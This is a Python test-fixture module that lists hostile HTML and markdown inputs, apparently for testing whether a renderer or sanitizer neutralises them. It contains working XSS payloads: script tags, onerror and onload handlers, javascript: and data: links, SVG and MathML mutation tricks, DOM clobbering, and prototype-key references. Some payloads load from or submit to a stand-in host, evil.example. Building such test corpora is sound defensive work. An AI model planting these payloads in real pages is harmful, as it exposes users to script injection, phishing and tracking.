"""Texts as an attacker would write them into a ticket, a page or a document. None may run, load or mislead."""

from __future__ import annotations

from typing import Final

HOSTILE_TEXTS: Final = {
    "script": "<script>window.pwned = 1</script>\n\nText <script src=https://evil.example/x.js></script>",
    "handlers": (
        "<img src=x onerror='window.pwned = 1'>\n\n<b onclick=alert(1) onmouseover=alert(1)>b</b> "
        "<body onload=alert(1)>"
    ),
    "links": (
        "[a](javascript:window.pwned=1) [b](JaVaScRiPt&colon;alert(1)) [c](java\tscript:alert(1)) <javascript:alert(1)>"
    ),
    "more links": (
        "[a](vbscript:x) [b](data:text/html,<script>alert(1)</script>) [c](//evil.example) "
        "[d](</a\\b>)\n\n[e]: javascript:x\n[e]"
    ),
    "svg": "<svg><script>window.pwned=1</script><a xlink:href='javascript:alert(1)'>x</a><use href='data:,x'/></svg>",
    "svg in text": "x <svg onload=alert(1)> <svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "mathml": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"
    ),
    "mutation": (
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><xmp><img src=x onerror=alert(1)>"
    ),
    "style": (
        "<style>body { display: none; background: url(https://evil.example/s) }</style><p style='color: red'>x</p>"
    ),
    "base": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "frames": "<iframe src=https://evil.example></iframe><object data=https://evil.example></object><embed src=x>",
    "form": "<form action=https://evil.example><input name=key><button>Sign in</button></form><textarea><select>",
    "beacons": (
        "![a](https://evil.example/a.png) ![b](//evil.example/b.png) ![c](/\\evil.example/c.png) "
        "[![d](http://evil.example/d.png)](https://a.example)"
    ),
    "more beacons": (
        "<img src=https://evil.example/x.png><video poster=https://evil.example/x><audio "
        "src=//evil.example>\n\n![a](v1/tasks/1:subscribe) ![b](?x.png) ![c](blob:x)"
    ),
    "data": "![a](data:image/svg+xml,<svg onload=alert(1)>) ![b](data:image/png;base64,AAAA)",
    "clobbering": (
        "<img name=parts><form id=document><a id=page name=getElementById></a></form>\n\n# page\n\n[x](#page)"
    ),
    "titles": (
        '[a](https://a.example \'"><img src=x onerror=alert(1)>\') !["onerror=alert(1) x](x.gif"onerror=alert(1))'
    ),
    "code": (
        '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```\n\n```yaml\n</span><img '
        "src=x onerror=alert(1)>: 1\n```"
    ),
    "table": (
        "| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |\n|---|---|\n| <script>alert(1)</script> | `<b>` |"
    ),
    "references": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x202e;",
    "prototype": (
        "[__proto__]: https://a.example\n[constructor]: https://b.example\n\n[__proto__] [constructor] [toString]"
    ),
}
